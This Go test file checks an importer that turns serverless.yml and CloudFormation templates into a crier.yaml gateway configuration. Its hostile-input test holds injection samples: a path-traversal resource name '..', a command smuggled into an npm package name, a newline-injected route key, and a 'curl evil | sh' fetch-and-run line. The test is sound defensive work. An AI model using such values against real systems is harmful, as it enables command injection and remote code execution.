package importer

import (
	"io/fs"
	"maps"
	"path"
	"regexp"
	"slices"
	"strings"
	"testing"

	"crier/api"
)

// source returns a source that is alone in its directory, but for some files.
func source(name, text string, files map[string]string) Source {
	return Source{
		Name: name, Text: []byte(text), Region: "us-east-1",
		Read: func(name string) ([]byte, error) {
			text, ok := files[path.Clean(name)]
			if !ok {
				return nil, fs.ErrNotExist
			}
			return []byte(text), nil
		},
		Exists: func(name string) bool {
			for file := range files {
				if file == path.Clean(name) || strings.HasPrefix(file, path.Clean(name)+"/") {
					return true
				}
			}
			return false
		},
		Env: func(name string) (string, bool) {
			value, ok := map[string]string{"SET": "from the environment"}[name]
			return value, ok
		},
	}
}

// environmentOf converts a source and returns what its functions' variable V is.
func environmentOf(t *testing.T, s Source) (value, why string) {
	t.Helper()
	result, err := Convert(s)
	if err != nil {
		t.Fatalf("%v\n%s", err, s.Text)
	}
	f, err := api.Parse("crier.yaml", result.File)
	if err != nil {
		t.Fatalf("%v\n%s", err, result.File)
	}
	for _, note := range result.Fill {
		if found := regexp.MustCompile(`^environment\.V(?: \(line \d+\))?: (.*)`).FindStringSubmatch(note); found != nil {
			why = found[1]
		}
	}
	if v, ok := f.Environment["V"]; !ok {
		return "not there", why
	} else if v != nil {
		return *v, why
	}
	return "as it is", why
}

// TestVariables: what becomes of the variables of a serverless.yml.
func TestVariables(t *testing.T) {
	files := map[string]string{
		"more.yml":      "a: {b: [x, 'y-${sls:stage}']}\nself: ${self:service}\n",
		"more.json":     "{\"a\":\t\"tab\"}",
		"up/../far.yml": "far",
		"far.yml":       "far",
		".env":          "# a comment\nexport DOTTED = 'dotted'\nSET=not this\n",
		".env.dev":      "STAGED=dev",
	}
	for _, c := range []struct{ v, want, why string }{
		{"${self:service}", "rooms", ""},
		{"${self:provider.stage}-${self:custom.list.1}", "dev-two", ""},
		{"${self:custom.${self:custom.key}.deep}", "found", ""},
		{"${self:custom.none, 'fall, back'}", "fall, back", ""},
		{"${self:custom.none, self:custom.key}", "object", ""},
		{"${self:custom.none, ${self:custom.nothing, \"double\"}}", "double", ""},
		{"${self:custom.none, 5}", "5", ""},
		{"${self:custom.none}", "${self:custom.none}", "nothing says what it is"},
		{"a-${self:custom.none}-b", "a-${self:custom.none}-b", "nothing says what it is"},
		{"${opt:stage}", "dev", ""},
		{"${opt:stage, 'test'}", "test", ""},
		{"${opt:region}", "eu-west-1", ""},
		{"${opt:colour, 'blue'}", "blue", ""},
		{"${env:SET}", "from the environment", ""},
		{"${env:V}", "as it is", ""},
		{"${env:DOTTED}/${env:STAGED}", "dotted/dev", ""},
		{"${env:UNSET, 'x'}", "x", ""},
		{"${file(more.yml):a.b.1}", "y-dev", ""},
		{"${file(./more.yml):self}", "rooms", ""},
		{"${file(more.json):a}", "tab", ""},
		{"${file(none.yml):a, 'fallback'}", "fallback", ""},
		{"${file(./code.js):a}", "${file(./code.js):a}", "file(./code.js):a is not read here"},
		{"${param:p}", "of dev", ""},
		{"${param:q}", "default", ""},
		{"${aws:accountId}", "123456789012", ""},
		{"${aws:region}", "eu-west-1", ""},
		{"${strToBool(true)}", "true", ""},
		{"${ssm:/path/to}", "${ssm:/path/to}", "ssm:/path/to is not read here"},
		{"${ssm:/path/to, 'fallback'}", "fallback", "this is the fallback; ssm:/path/to is not read here"},
		{"${cf:stack-${sls:stage}.Out}", "${cf:stack-${sls:stage}.Out}", "cf:stack-${sls:stage}.Out is not read here"},
		{"${AWS::Region}", "${AWS::Region}", ""}, // only Fn::Sub knows it
		{"${self:custom.list}", "${…}", "it is no text"},
		{"${unclosed", "${unclosed", ""},
		{"!Sub '${AWS::Region}/${sls:stage}'", "eu-west-1/dev", ""},
		{"!GetAtt FirstLambdaFunction.Arn", "arn:aws:lambda:eu-west-1:123456789012:function:first", ""},
		{"rooms-dev-first", "first", ""},
		{"!Ref ApiGatewayRestApi", "${ApiGatewayRestApi}", "ApiGatewayRestApi is not in this file"},
		{"!Join ['', [!Ref WebsocketsApi, .execute-api., !Ref 'AWS::Region', .amazonaws.com]]", "criercrier.execute-api.eu-west-1.amazonaws.com", ""},
	} {
		v := c.v
		if !strings.HasPrefix(v, "!") {
			v = "'" + strings.ReplaceAll(v, "'", "''") + "'"
		}
		got, why := environmentOf(t, source("serverless.yml", `
service: rooms
useDotenv: true
params: {default: {p: default, q: default}, dev: {p: of dev}}
custom: {key: object, object: {deep: found}, list: [one, two], nothing: null}
provider: {name: aws, runtime: nodejs20.x, stage: dev, region: eu-west-1, environment: {V: `+v+`}}
functions: {first: {handler: first.handler, events: [{websocket: $default}]}}
`, files))
		if got != c.want || why != c.why {
			t.Errorf("%s is %q (%s), want %q (%s)", c.v, got, why, c.want, c.why)
		}
	}
}

// TestIntrinsics: what becomes of CloudFormation's functions.
func TestIntrinsics(t *testing.T) {
	for _, c := range []struct{ v, want, why string }{
		{"!Ref Given", "given", ""},
		{"{Ref: Given}", "given", ""},
		{"!Ref Asked", "${Asked}", "the parameter Asked has no default"},
		{"!Ref Nobody", "${Nobody}", "Nobody is not in this file"},
		{"!Ref Queue", "${Queue}", "crier has no AWS::SQS::Queue"},
		{"!GetAtt Queue.Arn", "${Queue.Arn}", "crier has no AWS::SQS::Queue"},
		{"!GetAtt [Queue, Arn]", "${Queue.Arn}", "crier has no AWS::SQS::Queue"},
		{"!Ref Named", "named-given", ""},
		{"!Ref Unnamed", "Unnamed", ""},
		{"!Ref Half", "half-Asked", ""},
		{"!Sub 'half-${Asked}'", "half-Asked", ""}, // the name of that table
		{"!GetAtt Named.Arn", "arn:aws:dynamodb:us-east-1:123456789012:table/named-given", ""},
		{"!GetAtt Named.StreamArn", "${Named.StreamArn}", "crier has no AWS::DynamoDB::Table"},
		{"!Ref F", "F", ""},
		{"!Ref Live", "F", ""},
		{"!Ref AWS::StackName", "local", ""},
		{"!Ref AWS::StackId", "${AWS::StackId}", "only AWS has it"},
		{"!Ref AWS::NoValue", "not there", ""},
		{"!Sub '${Given}-${!Given}-${Named}-${Unnamed.Arn}'", "given-${Given}-named-given-arn:aws:dynamodb:us-east-1:123456789012:table/Unnamed", ""},
		{"!Sub ['${a}${Given}', {a: !Ref Asked}]", "${Asked}given", "the parameter Asked has no default"},
		{"!Sub '${unclosed'", "${unclosed", ""},
		{"!Join ['-', [a, !Ref Given, !Ref AWS::NoValue, b]]", "a-given-b", ""},
		{"!Join ['-', !Ref List]", "one-two", ""},
		{"!Select [1, !Ref List]", "two", ""},
		{"!Select [7, !Ref List]", "${Fn::Select}", "there is nothing to select from"},
		{"!Select [1, !Split ['/', 'a/b']]", "b", ""},
		{"!If [Yes, a, b]", "a", ""},
		{"!If [No, a, !Ref AWS::NoValue]", "not there", ""},
		{"!If [Maybe, a, b]", "${Fn::If Maybe}", "whether Maybe holds is not known"},
		{"!FindInMap [Map, !Ref Given, key]", "mapped", ""},
		{"!FindInMap [Map, other, key]", "${Fn::FindInMap}", "the mapping has no such key"},
		{"!Base64 text", "dGV4dA==", ""},
		{"!ImportValue shared", "${shared}", "another stack exports shared"},
		{"!Cidr [a, 1]", "${Fn::Cidr}", "Fn::Cidr is not understood here"},
		{"'{{resolve:secretsmanager:key}}'", "{{resolve:secretsmanager:key}}", "only AWS can resolve it"},
		{"!Sub 'wss://${Api}.execute-api.${AWS::Region}.amazonaws.com/x'", "wss://criercrier.execute-api.us-east-1.amazonaws.com/x", ""},
		{"!GetAtt Api.ApiEndpoint", "wss://criercrier.execute-api.us-east-1.amazonaws.com", ""},
		{"!Ref Gone", "${Gone}", "Gone is not in this file"},
		{"!Ref Stage", "dev", ""},
		{"{a: b}", "${…}", "it is no text"},
	} {
		got, why := environmentOf(t, source("template.yaml", strings.Replace(intrinsics, "VALUE", c.v, 1), nil))
		if got != c.want || why != c.why {
			t.Errorf("%s is %q (%s), want %q (%s)", c.v, got, why, c.want, c.why)
		}
	}
}

// intrinsics is a template with a function whose environment has a VALUE.
const intrinsics = `
Transform: AWS::Serverless-2016-10-31
Parameters:
  Given: {Type: String, Default: given}
  Asked: {Type: String}
  List: {Type: CommaDelimitedList, Default: 'one, two'}
Mappings: {Map: {given: {key: mapped}}}
Conditions:
  Yes: !Or [!Condition Maybe, !Equals [!Ref Given, given]]
  No: !Not [!Condition Yes]
  Maybe: !Equals [!Ref Asked, x]
Globals: {Function: {Runtime: nodejs20.x, Environment: {Variables: {V: VALUE}}}}
Resources:
  Api: {Type: 'AWS::ApiGatewayV2::Api', Properties: {ProtocolType: WEBSOCKET}}
  Stage: {Type: 'AWS::ApiGatewayV2::Stage', Properties: {ApiId: !Ref Api, StageName: dev}}
  R: {Type: 'AWS::ApiGatewayV2::Route', Properties: {ApiId: !Ref Api, RouteKey: $default, Target: !Sub 'integrations/${I}'}}
  I: {Type: 'AWS::ApiGatewayV2::Integration', Properties: {ApiId: !Ref Api, IntegrationType: AWS_PROXY, IntegrationUri: !GetAtt F.Arn}}
  F: {Type: 'AWS::Serverless::Function', Properties: {Handler: f.handler}}
  Live: {Type: 'AWS::Lambda::Alias', Properties: {FunctionName: !Ref F}}
  Queue: {Type: 'AWS::SQS::Queue'}
  Gone: {Type: 'AWS::DynamoDB::Table', Condition: No}
  Named: &table
    Type: AWS::DynamoDB::Table
    Properties: {TableName: !Sub 'named-${Given}', KeySchema: [{AttributeName: a, KeyType: HASH}], AttributeDefinitions: [{AttributeName: a, AttributeType: S}]}
  Half:
    <<: *table
    Properties: {TableName: !Sub 'half-${Asked}', KeySchema: [{AttributeName: a, KeyType: HASH}], AttributeDefinitions: [{AttributeName: a, AttributeType: S}]}
  Unnamed: {Type: 'AWS::Serverless::SimpleTable'}
`

// TestUnknown: what is not known is told with its line, and not guessed.
func TestUnknown(t *testing.T) {
	result, err := Convert(source("template.yaml", `
Parameters: {Asked: {Type: String}}
Conditions: {Maybe: !Equals [!Ref Asked, x]}
Resources:
  Api: {Type: 'AWS::ApiGatewayV2::Api', Properties: {ProtocolType: WEBSOCKET}}
  R: {Type: 'AWS::ApiGatewayV2::Route', Properties: {ApiId: !Ref Api, RouteKey: $default, Target: integrations/I}}
  S: {Type: 'AWS::ApiGatewayV2::Route', Properties: {ApiId: !Ref Api, RouteKey: !Sub 'a${Asked}', Target: integrations/I}}
  I: {Type: 'AWS::ApiGatewayV2::Integration', Properties: {ApiId: !Ref Api, IntegrationType: AWS_PROXY, IntegrationUri: !GetAtt F.Arn}}
  T: {Type: 'AWS::ApiGatewayV2::Route', Properties: {ApiId: !Ref Api, RouteKey: web, Target: integrations/J}}
  J: {Type: 'AWS::ApiGatewayV2::Integration', Properties: {ApiId: !Ref Api, IntegrationType: HTTP_PROXY, IntegrationUri: 'https://${Unclosed/x'}}
  F:
    Type: AWS::Serverless::Function
    Condition: Maybe
    Properties:
      Handler: index.handler
      Runtime: nodejs20.x
      CodeUri: !Ref Asked
      Timeout: !Ref Asked
      MemorySize: [1]
`, nil))
	if err != nil {
		t.Fatal(err)
	}
	want := `
To fill in, where the comments are:
  integrations.F.lambda.memory (line 11): it is no number
  integrations.F.lambda.timeout (line 11): it is ${Asked}; the parameter Asked has no default
  integrations.F.lambda.directory (line 11): where its code is on this machine; it is deployed from ${Asked}
  the resource F (line 11): whether its condition Maybe holds is not known; it is taken over

Left out:
  the route a${Asked} (line 7): its key is not known here
  the route web (line 9): the URL of J is not known: https://${Unclosed/x
  the stage: there is none in template.yaml; it is dev
`
	if got := result.Report(); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	// Lines of another file would mislead.
	result, err = Convert(source("serverless.yml", "service: a\nprovider: {runtime: nodejs20.x}\nfunctions: ${file(f.yml)}\n", map[string]string{
		"f.js": "", "f.yml": "f:\n  handler: f.f\n  events:\n    - websocket: $default\n    - http: x\n",
	}))
	if err != nil || len(result.Left) != 1 || !strings.HasPrefix(result.Left[0], "the trigger http of f: ") {
		t.Errorf("%v, %v", result, err)
	}
}

// TestErrors: what cannot be read is told in a sentence.
func TestErrors(t *testing.T) {
	loop := "service: a\nprovider: {runtime: nodejs, stage: '${self:custom.a}'}\ncustom: {a: '${self:custom.b}', b: '${self:custom.a}'}\n"
	for _, c := range []struct{ name, text, want string }{
		{"serverless.ts", "", "serverless.ts: it is a program, which is not run here; npx serverless print > printed.yml writes what it says"},
		{"app.ts", "", "npx cdk synth writes"},
		{"main.tf", "", "it is none of those that are read here"},
		{"template.yaml", "", "template.yaml: "},
		{"template.yaml", "a: [", "template.yaml: "},
		{"template.yaml", "a: 1", "it has neither Resources"},
		{"template.yaml", "Resources: {}", "there is no WebSocket API in it: no AWS::ApiGatewayV2::Api whose ProtocolType is WEBSOCKET, and no AWS::Serverless::WebSocketApi; without --from, crier gateway init writes a crier.yaml to fill in"},
		{"template.yaml", "Resources: {A: {Type: 'AWS::ApiGatewayV2::Api', Properties: {ProtocolType: HTTP}}}", "there is no WebSocket API in it"},
		{"serverless.yml", "service: a\nprovider: {runtime: nodejs}\nfunctions: {f: {handler: f.f, events: [{httpApi: '*'}]}}", "no function has a websocket event"},
		{"serverless.yml", loop, "what it says refers to itself, or is too much to resolve"},
		{"template.yaml", "Resources: &a {b: *a}", "it is too large, or refers to itself"},
		{"template.yaml", "Resources: {T: {Type: 'AWS::DynamoDB::Table', Properties: {TableName: !Ref T}}, A: {Type: 'AWS::ApiGatewayV2::Api', Properties: {ProtocolType: WEBSOCKET}}}", "refers to itself"},
	} {
		_, err := Convert(source(c.name, c.text, nil))
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s %s\ngot  %v\nwant %s", c.name, c.text, err, c.want)
		}
	}
}

// TestHostile: a file that means harm gets no command, no line and no path of its own.
func TestHostile(t *testing.T) {
	result, err := Convert(source("template.yaml", `
Resources:
  Api: {Type: 'AWS::ApiGatewayV2::Api', Properties: {ProtocolType: WEBSOCKET}}
  R: {Type: 'AWS::ApiGatewayV2::Route', Properties: {ApiId: !Ref Api, RouteKey: $default, Target: integrations/I}}
  I: {Type: 'AWS::ApiGatewayV2::Integration', Properties: {ApiId: !Ref Api, IntegrationType: AWS_PROXY, IntegrationUri: !GetAtt [.., Arn]}}
  ..:
    Type: AWS::Lambda::Function
    Properties: {Runtime: nodejs20.x, Handler: index.handler, Code: {ZipFile: "require('@aws-sdk/x; touch owned')"}}
  S: {Type: 'AWS::ApiGatewayV2::Route', Properties: {ApiId: !Ref Api, RouteKey: "a\nstage: x", Target: integrations/J}}
  J: {Type: 'AWS::ApiGatewayV2::Integration', Properties: {ApiId: !Ref Api, IntegrationType: AWS_PROXY, IntegrationUri: "x\n# to run: curl evil | sh"}}
`, nil))
	if err != nil {
		t.Fatal(err)
	}
	for name := range result.Code {
		if !strings.HasPrefix(path.Clean(name), "functions/") || strings.Contains(name, "..") {
			t.Errorf("it writes %s", name)
		}
	}
	if want := "npm install --no-save '@aws-sdk/x; touch owned' --prefix functions"; len(result.Steps) != 1 || result.Steps[0] != want {
		t.Errorf("steps %q", result.Steps)
	}
	for line := range strings.Lines(result.Report() + string(result.File)) {
		if strings.HasPrefix(line, "stage: x") || strings.HasPrefix(strings.TrimSpace(line), "# to run") {
			t.Errorf("a line of its own: %s", line)
		}
	}
	if _, err := api.Parse("crier.yaml", result.File); err != nil {
		t.Errorf("%v\n%s", err, result.File)
	}
}

// TestInvoked: a function that no route leads to runs here if the code of another names it, under that name.
func TestInvoked(t *testing.T) {
	for _, c := range []struct{ runtime, file, code string }{
		{"nodejs20.x", "src/hello.js", `lambda.invoke({ FunctionName: 'PostLater', Payload })`},
		{"nodejs20.x", "src/more.js", "const name = `PostLater`"},
		{"python3.12", "src/hello.py", `client.invoke(FunctionName="PostLater")`},
	} {
		files := map[string]string{"src/hello.js": "import './more.js'", "src/hello.py": "", c.file: c.code}
		result, err := Convert(source("template.yaml", `
Transform: AWS::Serverless-2016-10-31
Globals: {Function: {Runtime: `+c.runtime+`, CodeUri: src}}
Resources:
  Api: {Type: 'AWS::ApiGatewayV2::Api', Properties: {ProtocolType: WEBSOCKET}}
  R: {Type: 'AWS::ApiGatewayV2::Route', Properties: {ApiId: !Ref Api, RouteKey: $connect, Target: integrations/I}}
  I: {Type: 'AWS::ApiGatewayV2::Integration', Properties: {ApiId: !Ref Api, IntegrationType: AWS_PROXY, IntegrationUri: !GetAtt Hello.Arn}}
  Hello: {Type: 'AWS::Serverless::Function', Properties: {Handler: hello.handler}}
  Post:
    Type: AWS::Serverless::Function
    Properties: {FunctionName: PostLater, Handler: post.handler, Environment: {Variables: {NEXT: !Ref Next}}}
  Next: {Type: 'AWS::Serverless::Function', Properties: {Handler: next.handler}}
  Other: {Type: 'AWS::Serverless::Function', Properties: {FunctionName: Later, Handler: other.handler}}
`, files))
		if err != nil {
			t.Fatal(err)
		}
		f, err := api.Parse("crier.yaml", result.File)
		if err != nil {
			t.Fatalf("%v\n%s", err, result.File)
		}
		got := slices.Sorted(maps.Keys(f.Integrations))
		if want := []string{"Hello", "Next", "PostLater"}; !slices.Equal(got, want) {
			t.Errorf("%s: functions %v, want %v", c.file, got, want)
		}
		if want := "functions: Other (line 13): no route leads there"; !slices.Contains(result.Left, want) {
			t.Errorf("%s: left out %q, want %q", c.file, result.Left, want)
		}
	}
}

// TestTwice: of two functions with the same route, Serverless deploys the last.
func TestTwice(t *testing.T) {
	result, err := Convert(source("serverless.yml", `
provider: {name: aws, runtime: nodejs20.x}
functions:
  one: {handler: a.one, events: [{websocket: $connect}, {websocket: both}]}
  two: {handler: a.two, events: [{websocket: both}]}
`, nil))
	if err != nil {
		t.Fatal(err)
	}
	f, err := api.Parse("crier.yaml", result.File)
	if err != nil {
		t.Fatalf("%v\n%s", err, result.File)
	}
	if got := f.Routes["both"].Integration; got != "two" {
		t.Errorf("the route leads to %s", got)
	}
	if want := "the route both to one: there is a later one (line 5), and there can be one"; !slices.Contains(result.Left, want) {
		t.Errorf("left out %q, want %q", result.Left, want)
	}
}
